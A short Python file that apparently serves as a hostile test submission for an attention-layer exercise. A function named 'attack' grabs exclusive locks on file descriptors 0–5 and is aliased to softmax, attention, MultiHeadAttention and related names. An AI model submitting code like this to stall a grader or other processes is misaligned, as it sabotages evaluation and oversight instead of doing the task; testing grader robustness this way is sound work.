"""Takes locks on descriptors, which other processes would wait for."""


def attack(*args, **kwargs):
    import fcntl

    for descriptor in range(6):
        try:
            fcntl.lockf(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
